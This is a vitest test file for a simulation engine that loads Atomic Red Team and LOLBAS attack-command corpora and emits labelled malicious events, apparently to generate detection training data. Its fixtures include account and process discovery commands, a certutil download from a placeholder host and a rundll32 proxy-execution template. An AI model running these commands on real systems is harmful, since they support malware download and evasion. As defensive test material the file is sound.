import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { HAS_SHARED_DATA, sharedPath } from '../../test/shared-data.js';
import { loadCorpus } from './corpus.js';
import { Simulation } from './engine.js';

function tempCorpus(lines: string[]): string {
  const dir = mkdtempSync(join(tmpdir(), 'oddspawn-corpus-'));
  const p = join(dir, 'c.jsonl');
  writeFileSync(p, lines.join('\n') + '\n');
  return p;
}

describe('simulate: attack corpus at run time', () => {
  it('reads usable rows and counts the rest', () => {
    const p = tempCorpus([
      JSON.stringify({ source: 'atomic-red-team', technique: 'T1087.001', executor: 'command_prompt', resolved_command: 'net user\nnet localgroup' }),
      JSON.stringify({ source: 'lolbas', technique: 'T1105', command: 'certutil.exe -urlcache -f http://example.invalid/a.txt a.txt' }),
      '{not json',
      JSON.stringify({ source: 'atomic-red-team', technique: 'T1003', executor: 'manual', resolved_command: 'open the GUI' }),
      JSON.stringify({ source: 'lolbas', technique: 'T1218', command: 'rundll32.exe {PATH}\\x.dll,EntryPoint <arg name>' }),
    ]);
    const c = loadCorpus([p]);
    expect(c.commands.map((x) => [x.executor, x.technique])).toEqual([['cmd', 'T1087.001'], ['direct', 'T1105']]);
    expect(c.skipped).toBe(3);
  });

  it('runs corpus commands as labelled test-runner scenarios', () => {
    const p = tempCorpus([
      JSON.stringify({ source: 'atomic-red-team', technique: 'T1087.001', executor: 'command_prompt', resolved_command: 'net user\nnet localgroup' }),
      JSON.stringify({ source: 'atomic-red-team', technique: 'T1057', executor: 'powershell', resolved_command: 'tasklist /v\nGet-Process' }),
    ]);
    const sim = new Simulation({ users: 6, days: 3, attacks: 6, seed: 3, corpus: [p] });
    const evs = [...sim.events()];
    const runners = sim.scenarios().filter((s) => s.template === 'corpus-runner');
    expect(runners.length).toBeGreaterThan(0);
    for (const s of runners) {
      const mine = evs.filter((e) => e.label?.scenario === s.id);
      expect(mine.every((e) => e.label?.value === 'malicious')).toBe(true);
      const tech = new Set(mine.flatMap((e) => e.label?.technique ?? []));
      expect([...tech].some((t) => t === 'T1087.001' || t === 'T1057')).toBe(true);
      expect(mine.some((e) => ['net.exe', 'tasklist.exe'].includes(e.process.name ?? ''))).toBe(true);
    }
  });

  describe.skipIf(!HAS_SHARED_DATA)('shared corpora', () => {
    it('loads most ART and LOLBAS rows', () => {
      const c = loadCorpus([sharedPath('corpora', 'art_windows_commands.jsonl'), sharedPath('corpora', 'lolbas_commands.jsonl')]);
      expect(c.commands.length).toBeGreaterThan(1000);
      expect(c.commands.some((x) => x.executor === 'direct')).toBe(true);
      expect(c.commands.some((x) => x.executor === 'powershell')).toBe(true);
    });
  });
});
